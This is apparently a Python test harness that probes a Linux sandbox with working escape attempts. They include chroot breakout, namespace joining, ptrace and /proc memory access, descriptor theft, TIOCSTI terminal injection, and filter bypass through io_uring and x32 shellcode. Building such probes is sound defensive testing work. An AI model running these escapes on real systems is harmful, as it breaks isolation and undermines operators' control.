"""Attacks that take a system call of their own: `python calls.py NAME ARGUMENTS…`. Ends with 0 when it thinks it won.

Runs without the packages of the project. Numbers are those of x86_64; elsewhere what needs them does nothing.
"""

import ctypes
import fcntl
import mmap
import os
import platform
import resource
import signal
import socket
import struct
import sys
import time
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
X86 = platform.machine() == "x86_64"
NEW_NAMESPACES = 0x10020000  # CLONE_NEWUSER | CLONE_NEWNS


def call(number: int, *args: object) -> int:
    if not X86:
        raise OSError("only on x86_64")
    result: int = libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) if isinstance(a, int) else a for a in args))
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def exchange(one: str, other: str) -> None:
    call(316, -100, one.encode(), -100, other.encode(), 2)


def access_list(path: str) -> None:
    entries = [(1, 6, 0xFFFFFFFF), (2, 7, 12345), (4, 4, 0xFFFFFFFF), (0x10, 7, 0xFFFFFFFF), (0x20, 4, 0xFFFFFFFF)]
    value = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *entry) for entry in entries)
    os.setxattr(path, "system.posix_acl_access", value)


def file_flags(path: str) -> None:
    fd = os.open(path, os.O_RDONLY)
    flags = struct.unpack("i", fcntl.ioctl(fd, 0x80086601, bytes(4))[:4])[0]
    fcntl.ioctl(fd, 0x40086602, struct.pack("q", flags | 0x40))  # FS_NODUMP_FL


def extended_flags(path: str) -> None:
    fd = os.open(path, os.O_RDONLY)
    attributes = bytearray(fcntl.ioctl(fd, 0x801C581F, bytes(28)))
    attributes[0] |= 0x80  # FS_XFLAG_NODUMP
    fcntl.ioctl(fd, 0x401C5820, bytes(attributes))


def mapped(path: str) -> None:
    fd = os.open(path, os.O_RDWR)
    mmap.mmap(fd, 1)[0] = 0x78


def tell(kind: str, where: str) -> None:
    """A service that got a byte writes a file."""
    if kind == "udp":
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", int(where)))
        return
    families = {"tcp": socket.AF_INET, "tcp6": socket.AF_INET6}
    with socket.socket(families.get(kind, socket.AF_UNIX)) as client:
        client.settimeout(3)
        host = "::ffff:127.0.0.1" if kind == "tcp6" else "127.0.0.1"
        address: object = (host, int(where)) if kind in families else "\0" + where if kind == "abstract" else where
        client.connect(address)  # type: ignore[arg-type]  # typed as Any by some versions of the stubs only
        client.send(b"x")
        client.recv(1)


def families() -> None:
    """Families that no network namespace keeps apart, or whose handling has been a way in."""
    for number in (3, 4, 5, 9, 15, 17, 20, 21, 29, 30, 31, 37, 38, 39, 40, 44):
        try:
            socket.socket(number, socket.SOCK_STREAM if number in (39, 40) else socket.SOCK_RAW)
        except OSError:
            continue
        print("OPENED family", number)


def thread_kill(pid: str) -> None:
    call(234, int(pid), int(pid), signal.SIGKILL)


def handle_kill(pid: str) -> None:
    signal.pidfd_send_signal(os.pidfd_open(int(pid)), signal.SIGKILL)


def queue_signal(pid: str) -> None:
    info = struct.pack("iii", signal.SIGTERM, 0, -1).ljust(128, b"\0")
    call(129, int(pid), int(signal.SIGTERM), ctypes.c_char_p(info))


def owner_signal(pid: str) -> None:
    """Data that arrives is reported to another process, with a signal that ends it."""
    left, right = socket.socketpair()
    fcntl.fcntl(left, fcntl.F_SETOWN, int(pid))
    fcntl.fcntl(left, fcntl.F_SETSIG, signal.SIGUSR1)
    fcntl.fcntl(left, fcntl.F_SETFL, fcntl.fcntl(left, fcntl.F_GETFL) | os.O_ASYNC)
    right.send(b"x")


def limit(pid: str) -> None:
    resource.prlimit(int(pid), resource.RLIMIT_NOFILE, (7, 7))


def attach(pid: str) -> None:
    if libc.ptrace(16, int(pid), None, None) == 0:
        print("OPENED process", pid)


def write_memory(pid: str) -> None:
    with Path(f"/proc/{pid}/maps").open() as maps:
        start = int(maps.readline().split("-")[0], 16)
    with Path(f"/proc/{pid}/mem").open("r+b", buffering=0) as memory:
        memory.seek(start)
        memory.read(1)
        print("OPENED memory of", pid)


def take_handles(pid: str, canary: str) -> None:
    victim = os.pidfd_open(int(pid))
    for number in range(16):
        try:
            fd = call(438, victim, number, 0)
        except OSError:
            continue
        print("OPENED handle", number, Path(f"/proc/self/fd/{fd}").readlink(), canary)


def shared_memory(canary: str) -> None:
    """An object that outlives the command, seen by all processes of the user."""
    found = libc.shmget(ctypes.c_int(0x42575348), ctypes.c_size_t(4096), 0o1600)
    if found < 0:
        raise OSError(ctypes.get_errno(), canary)


def message_queue() -> None:
    libc.mq_open.restype = ctypes.c_int
    if libc.mq_open(b"/branchwork-escape", os.O_CREAT | os.O_RDWR, 0o600, None) < 0:
        raise OSError(ctypes.get_errno(), "mq_open")


def mount(source: bytes | None, target: bytes, kind: bytes | None, flags: int) -> bool:
    result: int = libc.mount(source, target, kind, ctypes.c_ulong(flags), None)
    return result == 0


def remount(canary: str) -> None:
    here = os.fsencode(canary)
    if str(Path("/proc/self/ns/mnt").readlink()) == os.environ["MOUNTS"]:
        if mount(here, here, None, 0x1000):
            libc.umount2(here, 2)
            print("OPENED mounts")
    else:
        for target in (b"/", b"/tmp", here, os.fsencode(Path(canary).parent)):
            mount(None, target, None, 0x20)
            mount(None, target, None, 0x1020)
    Path(canary, "new").write_text("x")


def mount_calls(canary: str) -> None:
    tree = call(428, -100, b"/", 0x80001)  # open_tree(OPEN_TREE_CLONE, AT_RECURSIVE)
    fd = os.open(canary.lstrip("/") + "/new", os.O_CREAT | os.O_WRONLY, dir_fd=tree)
    os.write(fd, b"x")


def clone_namespaces(canary: str) -> None:
    """By clone and by clone3, whose flags are behind a pointer."""
    arguments = struct.pack("QQQQQQQQ", NEW_NAMESPACES, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    for number, words in ((56, (NEW_NAMESPACES | signal.SIGCHLD, 0, 0, 0, 0)), (435, (arguments, 64))):
        try:
            child = call(number, *words)
        except OSError:
            continue
        if child == 0:
            print("OPENED namespace", flush=True)
            mount(None, b"/", None, 0x1020)
            Path(canary, "new").write_text("x")
            os._exit(0)
        os.waitpid(child, 0)


def join_namespaces(canary: str, pid: str) -> None:
    for owner in ("1", pid, str(os.getppid())):
        for kind in ("user", "mnt", "pid", "net", "ipc"):
            try:
                fd = os.open(f"/proc/{owner}/ns/{kind}", os.O_RDONLY)
            except OSError:
                continue
            if libc.setns(fd, 0) == 0:
                print("OPENED namespace", owner, kind)
    Path(canary, "new").write_text("x")


def by_handle(path: str) -> None:
    """A file opened by its handle, which crosses whatever is mounted over it."""
    handle = ctypes.create_string_buffer(struct.pack("Ii", 120, 0) + bytes(120))
    mount_id = ctypes.c_int()
    call(303, -100, path.encode(), handle, ctypes.byref(mount_id), 0)
    folder = os.open(Path(path).parent, os.O_RDONLY)
    os.write(call(304, folder, handle, os.O_WRONLY), b"x")


def chroot_out(canary: str) -> None:
    out = os.open("/", os.O_RDONLY)
    Path("jail").mkdir(exist_ok=True)
    os.chroot("jail")
    os.fchdir(out)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    Path(canary, "new").write_text("x")


def ring(path: str) -> None:
    """openat through io_uring: the ring makes the call, and no filter sees it."""
    params = bytearray(120)
    fd = call(425, 4, (ctypes.c_char * 120).from_buffer(params))
    size = struct.unpack_from("I", params, 0)[0]
    tail, mask, array = (struct.unpack_from("I", params, 40 + at)[0] for at in (4, 8, 24))
    rings = mmap.mmap(fd, array + size * 4, offset=0)
    entries = mmap.mmap(fd, size * 64, offset=0x10000000)
    name = ctypes.create_string_buffer(path.encode())
    # opcode IORING_OP_OPENAT, fd AT_FDCWD, address of the path, mode, flags
    entries[:64] = struct.pack("BBHiQQII", 18, 0, 0, -100, 0, ctypes.addressof(name), 0o600, 0o101).ljust(64, b"\0")
    assert struct.unpack_from("I", rings, mask)[0] == size - 1
    struct.pack_into("I", rings, array, 0)
    struct.pack_into("I", rings, tail, 1)
    call(426, fd, 1, 1, 1, 0, 0)


def run_from_memory(path: str) -> None:
    fd = os.memfd_create("program", 0)
    os.write(fd, Path("/bin/sh").read_bytes())
    os.execve(fd, ["sh", "-c", f'echo x > "{path}"'], dict(os.environ))


def raise_capabilities(path: str) -> None:
    header = struct.pack("II", 0x20080522, 0)
    libc.capset(header, struct.pack("IIIIII", *[0xFFFFFFFF] * 6))
    libc.prctl(38, 0, 0, 0, 0)
    libc.prctl(28, 0, 0, 0, 0)
    if libc.setuid(0) == 0 and mount(b"none", b"/mnt", b"tmpfs", 0):
        libc.umount2(b"/mnt", 2)
        print("OPENED mounts", path)


def x32(path: str) -> None:
    """The second table of x86_64, and the one of 32 bits through the old interrupt: numbers mean other calls there."""
    libc.syscall(ctypes.c_long(0x40000000 + 90), path.encode(), 0o777)
    libc.syscall(ctypes.c_long(0x40000000 + 85), path.encode(), 0o600)
    if not X86 or os.fork() != 0:
        os.wait()
        return
    # creat(path, 0600): the path has to lie below 4 GB.
    low = libc.mmap
    low.restype = ctypes.c_void_p
    page = low(ctypes.c_void_p(0x10000), ctypes.c_size_t(8192), 7, 0x32, -1, ctypes.c_long(0))
    code = b"\x53\xb8\x08\x00\x00\x00\xbb\x00\x10\x01\x00\xb9\x80\x01\x00\x00\xcd\x80\x5b\xc3"
    ctypes.memmove(page, code, len(code))
    ctypes.memmove(0x11000, path.encode() + b"\0", len(path) + 1)
    ctypes.CFUNCTYPE(ctypes.c_int)(page)()
    os._exit(0)


def daemon(path: str) -> None:
    """Twice forked, in a session of its own, deaf to what ends programs."""
    if os.fork():
        return
    os.setsid()
    for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    if os.fork():
        os._exit(0)
    devnull = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    for late in range(5):
        time.sleep(0.05)
        Path(f"{path}{late}").write_text("x")
    os._exit(0)


def type_into_terminals() -> None:
    places = [
        "/dev/tty",
        "/dev/console",
        *(f"/dev/pts/{n}" for n in range(8)),
        *(f"/proc/self/fd/{n}" for n in range(3)),
    ]
    for path in places:
        try:
            fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        for request, argument in ((0x5412, b"x"), (0x541C, b"\x02x")):
            try:
                fcntl.ioctl(fd, request, argument)
            except OSError:
                continue
            print("OPENED", path)


def loop_control() -> None:
    fd = os.open("/dev/loop-control", os.O_RDONLY)
    print("OPENED loop device", fcntl.ioctl(fd, 0x4C82))


def watch(canary: str) -> None:
    call(300, 0, os.O_RDONLY)
    print("OPENED fanotify", canary)


def keyring() -> None:
    call(248, b"user", b"branchwork-escape", b"x", 1, -4)
    print("OPENED keyring")


def kernel_programs() -> None:
    attr = struct.pack("IIIII", 2, 4, 4, 1, 0).ljust(72, b"\0")  # an array of one
    for number, args in ((321, (0, attr, 72)), (298, (bytes(120), 0, -1, -1, 0)), (323, (0,))):
        try:
            call(number, *args)
        except OSError:
            continue
        print("OPENED call", number)


if __name__ == "__main__":
    try:
        globals()[sys.argv[1]](*sys.argv[2:])
    except (OSError, ValueError) as error:
        sys.exit(f"{sys.argv[1]}: {error}")
